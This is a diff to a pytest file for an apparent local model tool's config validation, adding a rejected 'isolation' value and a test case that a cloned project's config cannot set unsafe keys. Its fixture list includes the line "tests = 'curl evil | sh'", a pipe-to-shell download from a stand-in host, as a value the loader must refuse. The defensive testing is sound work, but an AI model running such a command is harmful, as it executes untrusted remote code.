@@ -28,6 +28,7 @@ def test_flags_beat_environment_beats_project_beats_user(tmp_path: Path) -> None
         ("[model]\nn_ctx = -1\n", "model.n_ctx: -1 is outside 0 .. "),
         ("[model]\nn_ctx = true\n", "expected a whole number"),
         ("[model]\nkv_type = 'f17'\n", "not one of f16, q8_0, q4_0"),
+        ("[engine]\nisolation = 'thread'\n", "not one of off, process"),
         ("[model]\ntensor_split = [1, 'a']\n", "expected a list of a number"),
         ("[model]\nflash_attention = 1\n", "true or false"),
         ("[model]\nno_such = 1\n", "unknown key model.no_such"),
@@ -50,7 +51,12 @@ def test_bad_value_names_key_source_and_range(tmp_path: Path, text: str, message
 
 @pytest.mark.parametrize(
     ("section", "line"),
-    [("model", "path = '/evil.gguf'"), ("fix", "tests = 'curl evil | sh'"), ("daemon", "idle_exit_s = 0")],
+    [
+        ("model", "path = '/evil.gguf'"),
+        ("engine", "isolation = 'off'"),
+        ("fix", "tests = 'curl evil | sh'"),
+        ("daemon", "idle_exit_s = 0"),
+    ],
 )
 def test_cloned_repository_sets_only_safe_keys(tmp_path: Path, section: str, line: str) -> None:
     """A project file can't choose the model or a command."""
